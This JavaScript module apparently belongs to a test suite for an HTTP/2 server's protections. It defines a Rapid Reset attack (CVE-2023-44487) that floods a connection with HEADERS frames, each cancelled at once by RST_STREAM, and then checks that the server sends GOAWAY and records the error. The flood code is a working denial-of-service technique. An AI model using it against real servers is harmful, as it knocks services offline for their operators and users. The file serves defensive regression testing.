// Rapid reset: requests that are thrown away before they are answered, so that no limit of concurrent streams is ever met.

import { COMPLETE, Type, toFrame, toStreamId, toUint32 } from "../wire/frames.mjs";
import { toRequest } from "../wire/hpack.mjs";

const request = toRequest("/topics/default/rapid-reset");

/** @type {import("../target.mjs").Attack} */
export const attack = {
  reference: "CVE-2023-44487",
  does: "resets each stream as soon as it has opened it",
  limit: "resetsBurstMax, resetsPerSecondMax",
  meets: "GOAWAY ENHANCE_YOUR_CALM",
  counter: 'subito_http2_connection_errors_total{fault="too_many_resets"}',
  memoryMb: 64,
  async run(target) {
    const peer = await target.connectHttp2();
    await peer.flood((n) =>
      Buffer.concat([
        toFrame(Type.HEADERS, COMPLETE, toStreamId(n), request),
        toFrame(Type.RST_STREAM, 0, toStreamId(n), toUint32(8)),
      ]),
    );
    return [await target.patiently(peer.ended)];
  },
};
